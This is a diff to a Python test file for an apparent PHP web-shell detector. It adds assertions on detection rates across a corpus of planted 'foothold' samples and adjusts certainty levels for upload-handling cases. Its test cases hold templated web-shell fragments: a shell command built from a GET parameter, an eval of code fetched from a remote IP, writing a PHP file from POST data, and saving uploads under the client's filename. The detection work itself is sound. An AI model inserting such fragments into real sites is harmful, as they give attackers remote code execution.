@@ -20,11 +20,14 @@ def hits(template: str) -> dict[str, str]:
 
 
 def test_nearly_every_foothold_is_an_alarm_and_none_is_missed() -> None:
-    found = [certainty.weighed(judge.judged(content, "x.php", RULES)) for _family, content in footholds.all_of_them()]
-    alarms = [one for one in found if one is not None and one.certainty in ("exact", "strong")]
-    assert len(found) >= 120
-    assert None not in found
-    assert len(alarms) / len(found) >= 0.97
+    found = {path: certainty.weighed(judge.judged(content, path, RULES)) for path, content in footholds.all_of_them()}
+    alarms = {path for path, one in found.items() if one is not None and one.certainty in ("exact", "strong")}
+    first = {path for path in found if path.split("/")[0] in footholds.FAMILIES}
+    assert len(first) >= 120 and len(found) >= 400
+    assert len(alarms & first) / len(first) >= 0.97
+    assert len(alarms) / len(found) >= 0.9
+    assert {path for path, one in found.items() if one is None and path in first} == set()
+    assert sum(1 for one in found.values() if one is None) / len(found) <= 0.01
 
 
 @pytest.mark.parametrize(
@@ -40,7 +43,14 @@ def test_nearly_every_foothold_is_an_alarm_and_none_is_missed() -> None:
         ("§S§('ls ' . §GET§['a']);", "command", "hint"),
         ("§E§(file_get_contents('http://203.0.113.9/x'));", "evaluated", "sure"),
         ("§W§('x.php', §POST§['c']);", "written_program", "exact"),
-        ("§M§(§FILES§['a']['tmp_name'], 'up/' . §FILES§['a']['name']);", "uploaded_as_named", "hint"),
+        ("§M§(§FILES§['a']['tmp_name'], 'up/' . §FILES§['a']['name']);", "uploaded_as_named", "sure"),
+        ("§M§(§FILES§['a']['tmp_name'], 'up/' . §FILES§['a']['name'] . '.dat');", "uploaded_as_named", "hint"),
+        (
+            "if (in_array(pathinfo(§FILES§['a']['name'])['extension'], $ok))"
+            " §M§(§FILES§['a']['tmp_name'], 'up/' . §FILES§['a']['name']);",
+            "uploaded_as_named",
+            "hint",
+        ),
     ],
 )
 def test_how_sure_it_is_depends_on_who_has_the_say(template: str, rule: str, level: str) -> None:
